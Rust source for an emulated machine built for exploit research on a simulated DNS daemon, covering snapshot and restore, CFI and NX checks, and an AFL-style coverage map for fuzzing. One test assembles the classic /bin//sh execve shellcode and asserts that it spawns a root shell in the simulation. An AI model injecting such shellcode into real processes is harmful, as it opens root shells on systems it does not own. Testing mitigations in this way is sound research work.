            RunOutcome::ShellSpawned(s) => write!(f, "shell spawned: {s}"),
            RunOutcome::Fault(fault) => write!(f, "fault: {fault}"),
        }
    }
}

/// The simulated machine.
///
/// Create one directly for unit-scale work, or through
/// [`crate::Loader`] to get an image mapped under a protection policy.
#[derive(Debug, Clone)]
pub struct Machine {
    pub(crate) arch: Arch,
    pub(crate) mem: Memory,
    pub(crate) regs: Regs,
    pub(crate) hooks: HashMap<Addr, LibcFn>,
    pub(crate) shadow: Option<Vec<Addr>>,
    pub(crate) events: Vec<Event>,
    pub(crate) canary: u32,
    pub(crate) trace: Option<Trace>,
    /// Monotonic count of executed instructions (hooked calls count as
    /// one). Deliberately *not* restored by [`Machine::restore`] — it is
    /// the meter the snapshot-vs-reboot ablation reads.
    pub(crate) insn_count: u64,
    /// Edge-coverage map, armed only by the fuzzer. Like `insn_count`
    /// it observes execution rather than being part of machine state, so
    /// [`Machine::restore`] leaves it alone — the fork-server resets it
    /// per input instead.
    pub(crate) cov: Option<Box<CoverageMap>>,
}

/// A point-in-time capture of a [`Machine`]: registers, memory (as
/// `Arc`-shared pages — see [`MemorySnapshot`]), hooks, shadow stack,
/// event log, and canary. Restoring costs O(pages dirtied since the
/// snapshot); cloning the snapshot itself is cheap.
#[derive(Debug, Clone)]
pub struct MachineSnapshot {
    mem: MemorySnapshot,
    regs: Regs,
    hooks: HashMap<Addr, LibcFn>,
    shadow: Option<Vec<Addr>>,
    events: Vec<Event>,
    canary: u32,
}

impl Machine {
    /// Creates a bare machine with empty memory.
    pub fn new(arch: Arch) -> Self {
        Machine {
            arch,
            mem: Memory::new(),
            regs: Regs::new(arch),
            hooks: HashMap::new(),
            shadow: None,
            events: Vec::new(),
            canary: 0,
            trace: None,
            insn_count: 0,
            cov: None,
        }
    }

    /// Target architecture.
    pub fn arch(&self) -> Arch {
        self.arch
    }

    /// Memory, shared view.
    pub fn mem(&self) -> &Memory {
        &self.mem
    }

    /// Memory, mutable view.
    pub fn mem_mut(&mut self) -> &mut Memory {
        &mut self.mem
    }

    /// Turns the predecoded-instruction cache on or off (on by default;
    /// the ablation benchmark runs with it off). Execution results are
    /// identical either way — only decode work is saved.
    pub fn set_decode_cache_enabled(&mut self, on: bool) {
        self.mem.dcache_set_enabled(on);
    }

    /// Whether the predecoded-instruction cache is enabled.
    pub fn decode_cache_enabled(&self) -> bool {
        self.mem.dcache_enabled()
    }

    /// `(hits, misses)` counters of the predecoded-instruction cache.
    pub fn decode_cache_stats(&self) -> (u64, u64) {
        self.mem.dcache_stats()
    }

    /// Turns fused basic-block dispatch on or off (on by default; the
    /// `block_vs_insn` ablation runs with it off). Execution results are
    /// byte-identical either way — blocks reuse the per-instruction
    /// semantics and abort on any taken branch or code write.
    pub fn set_block_dispatch_enabled(&mut self, on: bool) {
        self.mem.dcache_set_blocks_enabled(on);
    }

    /// Whether fused basic-block dispatch is enabled.
    pub fn block_dispatch_enabled(&self) -> bool {
        self.mem.dcache_blocks_enabled()
    }

    /// Turns threaded-code IR dispatch on or off for this machine (the
    /// process-wide default comes from
    /// [`set_ir_dispatch_default`](crate::set_ir_dispatch_default)).
    /// With IR off, execution falls back to fused-block dispatch —
    /// results are byte-identical either way; the `ir_vs_block`
    /// ablation and the CI fallback lane run with it off.
    pub fn set_ir_dispatch_enabled(&mut self, on: bool) {
        self.mem.dcache_set_ir_enabled(on);
    }

    /// Whether threaded-code IR dispatch is enabled.
    pub fn ir_dispatch_enabled(&self) -> bool {
        self.mem.dcache_ir_enabled()
    }

    /// Arms or drops the edge-coverage bitmap (off by default; the
    /// fuzzer turns it on). When off, execution pays a single `Option`
    /// check per dispatched block — the same "pay only when armed"
    /// contract as the shadow-memory sanitizer.
    pub fn set_coverage_enabled(&mut self, on: bool) {
        match (on, self.cov.is_some()) {
            (true, false) => self.cov = Some(Box::default()),
            (false, true) => self.cov = None,
            _ => {}
        }
    }

    /// Whether the edge-coverage bitmap is armed.
    pub fn coverage_enabled(&self) -> bool {
        self.cov.is_some()
    }

    /// The coverage map, when armed.
    pub fn coverage(&self) -> Option<&CoverageMap> {
        self.cov.as_deref()
    }

    /// Zeroes the coverage map (no-op when disarmed). The fork server
    /// calls this between inputs; [`Machine::restore`] deliberately does
    /// not, since the map observes execution rather than machine state.
    pub fn coverage_reset(&mut self) {
        if let Some(c) = &mut self.cov {
            c.reset();
        }
    }

    /// Feeds a **virtual edge** into the coverage map (no-op when
    /// disarmed). Ported native code — the DNS parse loop that executes
    /// no guest instructions but writes through this machine's MMU —
    /// calls this with bucketed progress locations, the moral equivalent
    /// of compile-time instrumentation of the real `get_name`.
    #[inline]
    pub fn cov_note(&mut self, loc: u32) {
        if let Some(c) = &mut self.cov {
            c.note(loc);
        }
    }

    /// Total instructions executed by this machine since creation
    /// (hooked native calls count as one). Monotonic: survives
    /// [`restore`](Machine::restore), so a boot-once/fork-many harness
    /// can meter exactly how much execution each trial cost.
    pub fn insn_count(&self) -> u64 {
        self.insn_count
    }

    /// Captures the machine: registers, memory (page-granular, with
    /// dirty tracking armed so restore is O(dirty pages)), hooks, shadow
    /// stack, events, and canary. The execution trace (if any) and the
    /// instruction meter are *not* captured.
    pub fn snapshot(&mut self) -> MachineSnapshot {
        MachineSnapshot {
            mem: self.mem.snapshot(),
            regs: self.regs,
            hooks: self.hooks.clone(),
            shadow: self.shadow.clone(),
            events: self.events.clone(),
            canary: self.canary,
        }
    }

    /// Rewinds the machine to `snap`. Memory restore copies back only
    /// the pages dirtied since the snapshot and pushes them through the
    /// decode cache's invalidation hooks, so predecoded instructions and
    /// fused blocks for restored pages can never execute stale. Tracing
    /// is reset; [`insn_count`](Machine::insn_count) keeps counting.
    pub fn restore(&mut self, snap: &MachineSnapshot) {
        self.mem.restore(&snap.mem);
        self.regs = snap.regs;
        if self.hooks != snap.hooks {
            // Restoring a different hook set re-legitimises addresses a
            // later `register_hook` poisoned (or vice versa); cached
            // blocks spanning them would run straight through. The
            // comparison keeps the fork-many fuzz path — identical
            // hooks every restore — on its warm cache.
            self.mem.dcache_flush();
        }
        self.hooks.clone_from(&snap.hooks);
        self.shadow.clone_from(&snap.shadow);
        self.events.clone_from(&snap.events);
        self.canary = snap.canary;
        self.trace = None;
    }

    /// Registers, shared view.
    pub fn regs(&self) -> &Regs {
        &self.regs
    }

    /// Registers, mutable view.
    pub fn regs_mut(&mut self) -> &mut Regs {
        &mut self.regs
    }

    /// Registers a native libc function at `addr`; entering that address
    /// runs the native semantics instead of fetching instructions.
    ///
    /// Flushes the decode cache: a fused block built before the hook
    /// existed could otherwise run straight through the hooked address.
    pub fn register_hook(&mut self, addr: Addr, f: LibcFn) {
        self.hooks.insert(addr, f);
        self.mem.dcache_flush();
    }

    /// Drops every registered hook (the loader's re-slide path
    /// re-registers them at their new addresses).
    pub(crate) fn clear_hooks(&mut self) {
        self.hooks.clear();
        self.mem.dcache_flush();
    }

    /// The hooked function at `addr`, if any.
    pub fn hook_at(&self, addr: Addr) -> Option<LibcFn> {
        self.hooks.get(&addr).copied()
    }

    /// Enables shadow-stack CFI (paper §IV's hardware-supported CFI
    /// analogue). Returns from frames that were never entered via a call
    /// then fault with [`Fault::CfiViolation`].
    pub fn enable_cfi(&mut self) {
        self.shadow = Some(Vec::new());
    }

    /// Whether shadow-stack CFI is active.
    pub fn cfi_enabled(&self) -> bool {
        self.shadow.is_some()
    }

    /// The per-boot stack canary value.
    pub fn canary(&self) -> u32 {
        self.canary
    }

    /// Sets the per-boot canary (done by the loader).
    pub fn set_canary(&mut self, canary: u32) {
        self.canary = canary;
    }

    /// Enables execution tracing with a bounded ring of `capacity`
    /// steps (the *end* of the run is retained).
    pub fn enable_trace(&mut self, capacity: usize) {
        self.trace = Some(Trace::new(capacity));
    }

    /// The execution trace, when tracing is enabled.
    pub fn trace(&self) -> Option<&Trace> {
        self.trace.as_ref()
    }

    /// Events recorded so far, oldest first.
    pub fn events(&self) -> &[Event] {
        &self.events
    }

    /// Records an event (used by the daemon model as well).
    pub fn push_event(&mut self, e: Event) {
        self.events.push(e);
    }

    /// Pushes a 32-bit word onto the stack (both ISAs grow down).
    ///
    /// # Errors
    ///
    /// Returns a write fault if the stack page rejects the store.
    pub fn push_u32(&mut self, v: u32) -> Result<(), Fault> {
        let sp = self.regs.sp().wrapping_sub(4);
        self.mem.write_u32(sp, v, self.regs.pc())?;
        self.regs.set_sp(sp);
        Ok(())
    }

    /// Pops a 32-bit word off the stack.
    ///
    /// # Errors
    ///
    /// Returns a read fault if the stack page rejects the load.
    pub fn pop_u32(&mut self) -> Result<u32, Fault> {
        let sp = self.regs.sp();
        let v = self.mem.read_u32(sp, self.regs.pc())?;
        self.regs.set_sp(sp.wrapping_add(4));
        Ok(v)
    }

    /// Records a legitimate call on the shadow stack (no-op without
    /// CFI). The daemon model uses this when simulating its own call into
    /// `parse_response`, so that a *hijacked* return mismatches.
    pub fn shadow_push(&mut self, ret: Addr) {
        if let Some(s) = &mut self.shadow {
            s.push(ret);
        }
    }

    /// Performs a return to `target`, enforcing the shadow stack when CFI
    /// is enabled.
    ///
    /// # Errors
    ///
    /// Returns [`Fault::CfiViolation`] on mismatch or underflow.
    pub fn ret_to(&mut self, target: Addr, pc: Addr) -> Result<(), Fault> {
        if let Some(s) = &mut self.shadow {
            match s.pop() {
                Some(expected) if expected == target => {}
                other => {
                    return Err(Fault::CfiViolation {
                        target,
                        expected: other,
                        pc,
                    });
                }
            }
        }
        self.regs.set_pc(target);
        Ok(())
    }

    /// Executes one instruction (or one hooked native call).
    ///
    /// Returns `Ok(Some(outcome))` when execution reaches a terminal
    /// state, `Ok(None)` to continue.
    ///
    /// # Errors
    ///
    /// Returns the [`Fault`] that stopped the machine.
    pub fn step(&mut self) -> Result<Option<RunOutcome>, Fault> {
        self.insn_count += 1;
        let pc = self.regs.pc();
        if let Some(c) = &mut self.cov {
            c.note(pc);
        }
        let hook = self.hooks.get(&pc).copied();
        if let Some(t) = &mut self.trace {
            t.push(TraceEntry {
                pc,
                sp: self.regs.sp(),
                hook: hook.map(LibcFn::name),
            });
        }
        if let Some(f) = hook {
            return hooks::invoke(self, f, pc);
        }
        match self.arch {
            Arch::X86 => x86::step(self),
            Arch::Armv7 => arm::step(self),
            Arch::Riscv => riscv::step(self),
        }
    }

    /// Decodes a fused basic block starting at the current pc: a
    /// straight-line run that stops at the first control-flow
    /// instruction, hooked address, decode failure, or [`MAX_BLOCK`]
    /// instructions. Returns `None` when not even one instruction
    /// decodes (the caller falls back to [`step`](Machine::step), which
    /// raises the identical fault).
    pub(crate) fn build_block(&mut self, start: Addr) -> Option<Arc<Block>> {
        if !start.is_multiple_of(self.arch.insn_align() as u32) {
            return None;
        }
        let mut insns = Vec::new();
        let mut pc = start;
        while insns.len() < MAX_BLOCK {
            if pc != start && self.hooks.contains_key(&pc) {
                break;
            }
            let (ci, ends) = match self.arch {
                Arch::X86 => match x86::decode_at(self, pc) {
                    Ok((insn, len)) => (CachedInsn::X86(insn, len as u8), x86::ends_block(&insn)),
                    Err(_) => break,
                },
                Arch::Armv7 => match arm::decode_at(self, pc) {
                    Ok(insn) => (CachedInsn::Arm(insn), arm::ends_block(&insn)),
                    Err(_) => break,
                },
                Arch::Riscv => match riscv::decode_at(self, pc) {
                    Ok((insn, len)) => {
                        (CachedInsn::Riscv(insn, len as u8), riscv::ends_block(&insn))
                    }
                    Err(_) => break,
                },
            };
            pc = pc.wrapping_add(ci.byte_len());
            insns.push(ci);
            if ends {
                break;
            }
        }
        if insns.is_empty() {
            return None;
        }
        let block = Arc::new(Block { insns });
        self.mem
            .dcache_insert_block(start, Arc::clone(&block), pc.wrapping_sub(start));
        Some(block)
    }

    /// Executes up to `budget` instructions of the fused block at the
    /// current pc, falling back to a single [`step`](Machine::step) when
    /// no block applies (hooked pc, undecodable bytes). Returns how many
    /// instructions were consumed and the step result. Execution leaves
    /// the block early on a taken branch (pc ≠ fall-through) or when a
    /// store invalidates cached code (flush-generation change), so
    /// results are byte-identical to per-instruction dispatch.
    fn step_block(&mut self, budget: u64) -> (u64, Result<Option<RunOutcome>, Fault>) {
        let start = self.regs.pc();
        if self.hooks.contains_key(&start) {
            return (1, self.step());
        }
        let block = match self.mem.dcache_get_block(start) {
            Some(b) => b,
            None => match self.build_block(start) {
                Some(b) => b,
                None => return (1, self.step()),
            },
        };
        let gen = self.mem.dcache_generation();
        if let Some(c) = &mut self.cov {
            c.note(start);
        }
        let mut used = 0u64;
        let mut pc = start;
        for &ci in &block.insns {
            if used >= budget {
                break;
            }
            used += 1;
            self.insn_count += 1;
            let res = match ci {
                CachedInsn::X86(insn, len) => x86::exec_insn(self, insn, len as usize, pc),
                CachedInsn::Arm(insn) => arm::exec_insn(self, insn, pc),
                CachedInsn::Riscv(insn, len) => riscv::exec_insn(self, insn, len as usize, pc),
            };
            match res {
                Ok(None) => {}
                terminal => return (used, terminal),
            }
            let next = pc.wrapping_add(ci.byte_len());
            if self.regs.pc() != next || self.mem.dcache_generation() != gen {
                break;
            }
            pc = next;
        }
        (used, Ok(None))
    }

    /// Whether [`run`](Machine::run) may use fused-block dispatch:
    /// tracing wants one entry per instruction, and the ablation
    /// toggles force the per-instruction path.
    fn fused_dispatch(&self) -> bool {
        self.trace.is_none() && self.block_dispatch_enabled() && self.decode_cache_enabled()
    }

    /// Runs until a terminal state or `max_steps` instructions.
    ///
    /// Faults are recorded as [`Event::Faulted`] before being returned,
    /// so post-mortem inspection sees them in the event log.
    pub fn run(&mut self, max_steps: u64) -> RunOutcome {
        let fused = self.fused_dispatch();
        let ir = fused && self.ir_dispatch_enabled();
        let mut left = max_steps;
        while left > 0 {
            let (used, res) = if ir {
                crate::ir::step_ir(self, left)
            } else if fused {
                self.step_block(left)
            } else {
                (1, self.step())
            };
            left = left.saturating_sub(used.max(1));
            match res {
                Ok(None) => {}
                Ok(Some(outcome)) => return outcome,
                Err(fault) => {
                    self.events.push(Event::Faulted(fault.clone()));
                    return RunOutcome::Fault(fault);
                }
            }
        }
        let fault = Fault::StepLimit { limit: max_steps };
        self.events.push(Event::Faulted(fault.clone()));
        RunOutcome::Fault(fault)
    }

    /// Single-steps until the pc reaches `target` (checked before each
    /// step), for running a known-benign stretch like the firmware's
    /// boot path. Always per-instruction, so arrival is detected
    /// exactly.
    ///
    /// # Errors
    ///
    /// Returns the fault that stopped the machine, or
    /// [`Fault::StepLimit`] if `target` was not reached within
    /// `max_steps` (a terminal outcome before `target` counts as not
    /// reaching it).
    pub fn run_to(&mut self, target: Addr, max_steps: u64) -> Result<(), Fault> {
        for _ in 0..max_steps {
            if self.regs.pc() == target {
                return Ok(());
            }
            match self.step() {
                Ok(None) => {}
                Ok(Some(_)) => return Err(Fault::StepLimit { limit: max_steps }),
                Err(fault) => return Err(fault),
            }
        }
        if self.regs.pc() == target {
            Ok(())
        } else {
            Err(Fault::StepLimit { limit: max_steps })
        }
    }

    /// Shared semantics of `execve`-like entries: read the path (and
    /// argv, when `argv_ptr` is non-null). Returns the terminal
    /// shell-spawn outcome when the path names a program that exists in
    /// the simulated rootfs; returns `Ok(None)` when the exec fails
    /// (`ENOENT`-style) and the caller should deliver `-1` and continue —
    /// which is what a ROP chain built from *stale* ASLR addresses hits.
    pub(crate) fn do_exec(
        &mut self,
        path_ptr: Addr,
        argv_ptr: Option<Addr>,
        via: &'static str,
        pc: Addr,
    ) -> Result<Option<RunOutcome>, Fault> {
        let path = self.mem.read_cstr(path_ptr, 256, pc)?;
        if !program_exists(&path) {
            return Ok(None);
        }
        let mut argv = Vec::new();
        if let Some(list) = argv_ptr {
            if list != 0 {
                for i in 0..16u32 {
                    let p = self.mem.read_u32(list.wrapping_add(i * 4), pc)?;
                    if p == 0 {
                        break;
                    }
                    argv.push(
                        String::from_utf8_lossy(&self.mem.read_cstr(p, 256, pc)?).into_owned(),
                    );
                }
            }
        }
        let spawn = ShellSpawn {
            program: String::from_utf8_lossy(&path).into_owned(),
            argv,
            via,
            uid: 0,
        };
        self.events.push(Event::ShellSpawned(spawn.clone()));
        Ok(Some(RunOutcome::ShellSpawned(spawn)))
    }
}

/// The simulated rootfs: the handful of binaries an embedded Connman
/// image ships. Exec of anything else fails with `ENOENT`.
fn program_exists(path: &[u8]) -> bool {
    matches!(
        path,
        b"sh" | b"/bin/sh" | b"/bin//sh" | b"//bin//sh" | b"/bin/busybox" | b"busybox"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::x86::Asm;
    use crate::X86Reg;
    use cml_image::{Perms, SectionKind};

    fn machine_with(code: Vec<u8>) -> Machine {
        let mut m = Machine::new(Arch::X86);
        m.mem
            .map(".text", Some(SectionKind::Text), 0x1000, 0x1000, Perms::RX);
        m.mem
            .map("stack", Some(SectionKind::Stack), 0x8000, 0x1000, Perms::RW);
        m.mem.poke(0x1000, &code).unwrap();
        m.regs.set_pc(0x1000);
        m.regs.set_sp(0x8800);
        m
    }

    #[test]
    fn exit_syscall_terminates() {
        // mov ebx, 7; mov eax... use xor+mov al: eax=1 exit, ebx=7
        let code = Asm::new()
            .xor_rr(X86Reg::Eax, X86Reg::Eax)
            .mov_r8_imm(X86Reg::Eax, 1)
            .mov_r_imm(X86Reg::Ebx, 7)
            .int80()
            .finish();
        let mut m = machine_with(code);
        assert_eq!(m.run(100), RunOutcome::Exited(7));
        assert!(m
            .events()
            .iter()
            .any(|e| matches!(e, Event::ProcessExited { code: 7 })));
    }

    #[test]
    fn classic_execve_shellcode_spawns_shell() {
        // The canonical 25-byte /bin//sh shellcode.
        let code = Asm::new()
            .xor_rr(X86Reg::Eax, X86Reg::Eax)
            .push_r(X86Reg::Eax)
            .push_imm(u32::from_le_bytes(*b"//sh"))
            .push_imm(u32::from_le_bytes(*b"/bin"))
            .mov_rr(X86Reg::Ebx, X86Reg::Esp)
            .push_r(X86Reg::Eax)
            .push_r(X86Reg::Ebx)
            .mov_rr(X86Reg::Ecx, X86Reg::Esp)
            .xor_rr(X86Reg::Edx, X86Reg::Edx)
            .mov_r8_imm(X86Reg::Eax, 11)
            .int80()
            .finish();
        let mut m = machine_with(code);
        let out = m.run(100);
        assert!(out.is_root_shell(), "{out}");
        match out {
            RunOutcome::ShellSpawned(s) => {
                assert_eq!(s.program, "/bin//sh");
                assert_eq!(s.via, "execve");
                assert_eq!(s.argv, vec!["/bin//sh"]);
            }
            other => panic!("unexpected outcome {other}"),
        }
    }

    #[test]
    fn coverage_map_records_dispatch_and_virtual_edges() {
        // A short loop so block dispatch takes distinct edges.
        let mut m = machine_with(loop_code());
        assert!(!m.coverage_enabled());
        m.cov_note(0xDEAD); // no-op while disarmed
        assert!(m.coverage().is_none());

        m.set_coverage_enabled(true);
        let _ = m.run(10_000);
        let guest_edges = m.coverage().unwrap().edges();
        assert!(guest_edges >= 2, "loop should light several edges");

        // Virtual edges land in the same map.
        m.cov_note(0xAAAA_0001);
        assert!(m.coverage().unwrap().edges() >= guest_edges);

        // Reset clears; restore does not (the map observes execution).
        m.coverage_reset();
        assert_eq!(m.coverage().unwrap().edges(), 0);
        let mut m2 = machine_with(loop_code());
        m2.set_coverage_enabled(true);
        let snap = m2.snapshot();
        let _ = m2.run(10_000);
        let before = m2.coverage().unwrap().edges();
        assert!(before > 0);
        m2.restore(&snap);
        assert_eq!(
            m2.coverage().unwrap().edges(),
            before,
            "restore must leave the coverage map alone"
        );
        m2.set_coverage_enabled(false);
        assert!(m2.coverage().is_none());
    }

    #[test]
    fn coverage_identical_across_dispatch_for_straightline_blocks() {
        // Per-insn dispatch notes every pc; fused dispatch notes block
        // entries. For a program whose blocks are all single-entry
        // straight lines ending in control flow, the *set* of noted
        // locations differs but determinism per mode must hold.
        let run_mode = |blocks: bool| {
            let mut m = machine_with(loop_code());
            m.set_block_dispatch_enabled(blocks);
            m.set_coverage_enabled(true);
            let _ = m.run(10_000);
            m.coverage().unwrap().bytes().to_vec()
        };
        assert_eq!(run_mode(true), run_mode(true), "fused mode deterministic");
        assert_eq!(run_mode(false), run_mode(false), "insn mode deterministic");
    }

    #[test]
    fn step_limit_is_a_fault() {
        let code = Asm::new().jmp_rel8(-2).finish(); // infinite loop
        let mut m = machine_with(code);
        let out = m.run(50);
        assert_eq!(out, RunOutcome::Fault(Fault::StepLimit { limit: 50 }));
        assert!(!out.is_crash());
    }

    #[test]
    fn push_pop_roundtrip() {
        let mut m = machine_with(vec![0x90]);
        m.push_u32(0xdead_beef).unwrap();
        m.push_u32(0x1337).unwrap();
        assert_eq!(m.pop_u32().unwrap(), 0x1337);
        assert_eq!(m.pop_u32().unwrap(), 0xdead_beef);
    }

    #[test]
    fn cfi_blocks_unpaired_return() {
        let code = Asm::new().ret().finish();
        let mut m = machine_with(code);
        m.enable_cfi();
        m.push_u32(0x1000).unwrap(); // forged return address
        let out = m.run(10);
        assert!(matches!(
            out,
            RunOutcome::Fault(Fault::CfiViolation { expected: None, .. })
        ));
    }

    #[test]
    fn cfi_allows_matching_return() {
        let code = Asm::new().ret().nop().finish();
        let mut m = machine_with(code);
        m.enable_cfi();
        m.shadow_push(0x1001);
        m.push_u32(0x1001).unwrap();
        // ret to 0x1001 (nop) then run out of code into illegal bytes.
        assert!(m.step().unwrap().is_none());
        assert_eq!(m.regs().pc(), 0x1001);
    }

    #[test]
    fn nx_stack_faults_when_executing() {
        let mut m = machine_with(vec![0x90]);
        m.regs.set_pc(0x8100); // stack is RW, not X
        let out = m.run(5);
        assert!(out.is_crash());
        assert!(matches!(
            out,
            RunOutcome::Fault(Fault::NxViolation { pc: 0x8100, .. })
        ));
    }

    /// A hot backward loop then `exit(ebx)` — the workload fused-block
    /// dispatch targets (and the shape of the firmware's `daemon_init`).
    fn loop_code() -> Vec<u8> {
        Asm::new()
            .mov_r_imm(X86Reg::Ecx, 200)
            .inc_r(X86Reg::Eax)
            .inc_r(X86Reg::Eax)
            .dec_r(X86Reg::Ecx)
            .jnz_rel8(-5)
            .xor_rr(X86Reg::Eax, X86Reg::Eax)
            .mov_r8_imm(X86Reg::Eax, 1)
            .mov_r_imm(X86Reg::Ebx, 7)
            .int80()
            .finish()
    }

    #[test]
    fn ir_block_and_insn_dispatch_agree() {
        let mut ir = machine_with(loop_code());
        let mut block = machine_with(loop_code());
        block.set_ir_dispatch_enabled(false);
        let mut insn = machine_with(loop_code());
        insn.set_block_dispatch_enabled(false);
        let (a, b, c) = (ir.run(10_000), block.run(10_000), insn.run(10_000));
        assert_eq!(a, b);
        assert_eq!(a, c);
        assert_eq!(a, RunOutcome::Exited(7));
        assert_eq!(ir.insn_count(), insn.insn_count());
        assert_eq!(block.insn_count(), insn.insn_count());
        assert_eq!(ir.events(), insn.events());
        assert_eq!(block.events(), insn.events());
        assert_eq!(format!("{:?}", ir.regs()), format!("{:?}", insn.regs()));
        assert_eq!(format!("{:?}", block.regs()), format!("{:?}", insn.regs()));
    }

    #[test]
    fn fused_dispatch_respects_step_budget() {
        // Budget 50 expires mid-loop — inside a lowered block (and a
        // folded `inc` run) for the IR arm.
        let mut reference = machine_with(loop_code());
        reference.set_block_dispatch_enabled(false);
        assert_eq!(
            reference.run(50),
            RunOutcome::Fault(Fault::StepLimit { limit: 50 })
        );
        for ir_on in [true, false] {
            let mut m = machine_with(loop_code());
            m.set_ir_dispatch_enabled(ir_on);
            let out = m.run(50);
            assert_eq!(out, RunOutcome::Fault(Fault::StepLimit { limit: 50 }));
            assert_eq!(m.insn_count(), reference.insn_count(), "ir_on={ir_on}");
            assert_eq!(
                format!("{:?}", m.regs()),
                format!("{:?}", reference.regs()),
                "ir_on={ir_on}"
            );
        }
    }

    #[test]
    fn snapshot_restore_rewinds_machine_state() {
        let mut m = machine_with(loop_code());
        m.push_u32(0x1234).unwrap();
        let snap = m.snapshot();
        let insns_at_snap = m.insn_count();
        let first = m.run(10_000);
        assert_eq!(first, RunOutcome::Exited(7));
        assert!(!m.events().is_empty());

        m.restore(&snap);
        assert_eq!(m.regs().pc(), 0x1000);
        assert_eq!(m.pop_u32().unwrap(), 0x1234, "stack contents rewound");
        m.push_u32(0x1234).unwrap();
        assert!(m.events().is_empty(), "events rewound");
        assert!(
            m.insn_count() > insns_at_snap,
            "insn meter keeps counting across restore"
        );
        assert_eq!(m.run(10_000), first, "replay is identical");
    }

    #[test]
    fn text_mutation_after_snapshot_is_coherent_and_undone_by_restore() {
        // The imm32 of `mov ebx, 7` sits one byte into the instruction.
        let code = loop_code();
        let imm_off = (code.len() - 2 - 4) as Addr; // before int80's 2 bytes
        for (ir_on, blocks_on) in [(true, true), (false, true), (false, false)] {
            let mut m = machine_with(loop_code());
            m.set_ir_dispatch_enabled(ir_on);
            m.set_block_dispatch_enabled(blocks_on);
            let snap = m.snapshot();
            // Populate the decode cache and block table.
            assert_eq!(m.run(10_000), RunOutcome::Exited(7));

            // Mutate .text after restoring: cached decodes for the page
            // must not serve the stale exit code.
            m.restore(&snap);
            m.mem_mut().poke(0x1000 + imm_off, &[9]).unwrap();
            assert_eq!(
                m.run(10_000),
                RunOutcome::Exited(9),
                "blocks_on={blocks_on}: mutated code must execute"
            );

            // Restore again: the mutation itself is rewound.
            m.restore(&snap);
            assert_eq!(
                m.run(10_000),
                RunOutcome::Exited(7),
                "blocks_on={blocks_on}: restore must undo the .text write"
            );
        }
    }

    #[test]
    fn restore_drops_hooks_registered_after_snapshot() {
        let mut m = machine_with(loop_code());
        let snap = m.snapshot();
        m.register_hook(0x1000, LibcFn::Exit);
        m.restore(&snap);
        assert!(m.hooks.is_empty());
        assert_eq!(m.run(10_000), RunOutcome::Exited(7), "code runs, not hook");
    }
}
