//! AFL-style edge-coverage bitmap for the fuzzing subsystem.
//!
//! The map is a fixed-size table of saturating 8-bit hit counters
//! indexed by `hash(prev) ^ hash(cur)` — the classic AFL edge encoding,
//! here riding the fused block-dispatch path: every block entry (and
//! every instruction on the per-insn fallback path) notes its location,
//! so two executions that traverse different control-flow edges light
//! up different counters even when they visit the same set of blocks.
//!
//! Because most of the simulated daemon's DNS parsing is *ported* code
//! running natively (it writes through the machine's MMU but executes
//! no guest instructions), the map also accepts **virtual edges** via
//! [`crate::Machine::cov_note`]: instrumentation points in the ported
//! `get_name` loop feed bucketed parse-progress locations into the same
//! map, exactly like compile-time instrumentation of a real target.
//! Guest edges and virtual edges share one `prev` register, so the
//! interleaving of boot-time execution and parse progress is itself an
//! observable path signal.
//!
//! The hook is off by default and costs exploit runs a single `Option`
//! check per dispatched block, mirroring the shadow-memory sanitizer's
//! "pay only when armed" contract.

/// Number of counters in the edge map. A power of two so indexing is a
/// mask; 8 KiB keeps the whole map in L1 while leaving collision rates
/// low for a workload of this size (the real daemon lights up a few
/// hundred edges).
pub const COV_MAP_SIZE: usize = 1 << 13;

/// Mixes a location (a guest pc, or a virtual-edge id) into a
/// well-distributed 32-bit value. Multiplicative hashing by the golden
/// ratio, same recipe as the decode cache.
#[inline]
fn mix(loc: u32) -> u32 {
    let h = loc.wrapping_mul(0x9E37_79B1);
    h ^ (h >> 16)
}

/// [`mix`] exposed to the threaded-code IR lowering, which bakes the
/// mixed block-entry hash into a `Cov` op at build time so the dispatch
/// loop's coverage update is two loads, an xor and a saturating add.
#[inline]
pub(crate) fn premix(loc: u32) -> u32 {
    mix(loc)
}

/// A fixed-size edge-coverage map: saturating hit counters plus the
/// rolling `prev` location register.
#[derive(Debug, Clone)]
pub struct CoverageMap {
    map: Box<[u8]>,
    prev: u32,
}

impl Default for CoverageMap {
    fn default() -> Self {
        CoverageMap::new()
    }
}

impl CoverageMap {
    /// A zeroed map.
    pub fn new() -> Self {
        CoverageMap {
            map: vec![0u8; COV_MAP_SIZE].into_boxed_slice(),
            prev: 0,
        }
    }

    /// Records one location: bumps the counter for the edge from the
    /// previously noted location to `loc`.
    #[inline]
    pub fn note(&mut self, loc: u32) {
        let h = mix(loc);
        let idx = (self.prev ^ h) as usize & (COV_MAP_SIZE - 1);
        self.map[idx] = self.map[idx].saturating_add(1);
        // Shift so that A→B and B→A land in different slots.
        self.prev = h >> 1;
    }

    /// Records one location whose [`premix`] hash was computed at IR
    /// build time. `note_premixed(premix(loc))` updates the map exactly
    /// like `note(loc)` — the differential suite holds the two dispatch
    /// modes to byte-identical maps.
    #[inline]
    pub(crate) fn note_premixed(&mut self, h: u32) {
        let idx = (self.prev ^ h) as usize & (COV_MAP_SIZE - 1);
        self.map[idx] = self.map[idx].saturating_add(1);
        self.prev = h >> 1;
    }

    /// Zeroes every counter and the `prev` register — called by the
    /// fuzzer between inputs so each execution reports its own edges.
    pub fn reset(&mut self) {
        self.map.fill(0);
        self.prev = 0;
    }

    /// The raw counter bytes ([`COV_MAP_SIZE`] of them).
    pub fn bytes(&self) -> &[u8] {
        &self.map
    }

    /// How many distinct edges have a nonzero counter.
    pub fn edges(&self) -> usize {
        self.map.iter().filter(|&&c| c != 0).count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn edges_are_order_sensitive() {
        let mut ab = CoverageMap::new();
        ab.note(0x1000);
        ab.note(0x2000);
        let mut ba = CoverageMap::new();
        ba.note(0x2000);
        ba.note(0x1000);
        assert_ne!(ab.bytes(), ba.bytes(), "A→B must differ from B→A");
    }

    #[test]
    fn counters_saturate_instead_of_wrapping() {
        let mut m = CoverageMap::new();
        for _ in 0..300 {
            m.note(0x4000);
            m.note(0x4004);
        }
        assert_eq!(m.bytes().iter().max().copied(), Some(255));
        assert!(m.edges() >= 2);
    }

    #[test]
    fn premixed_note_matches_plain_note() {
        let mut plain = CoverageMap::new();
        let mut pre = CoverageMap::new();
        for loc in [0x1000u32, 0x2044, 0xAAAA_0001, 7] {
            plain.note(loc);
            pre.note_premixed(premix(loc));
        }
        assert_eq!(plain.bytes(), pre.bytes(), "same edges, same map");
    }

